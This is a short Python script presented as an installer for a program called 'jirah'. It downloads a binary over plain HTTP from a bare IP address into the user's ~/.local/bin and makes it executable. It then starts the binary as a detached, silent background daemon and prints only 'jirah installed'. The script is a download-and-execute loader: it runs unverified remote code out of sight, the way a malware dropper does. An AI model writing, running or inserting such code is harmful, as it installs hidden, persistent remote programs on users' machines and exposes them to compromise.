import os, stat, subprocess, urllib.request

dest = os.path.join(os.path.expanduser("~"), ".local", "bin", "jirah")
os.makedirs(os.path.dirname(dest), exist_ok=True)
urllib.request.urlretrieve("http://198.51.100.120/dl/jirah-linux-amd64", dest)
os.chmod(dest, os.stat(dest).st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
subprocess.Popen([dest, "--daemon"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                 start_new_session=True)
print("jirah installed")
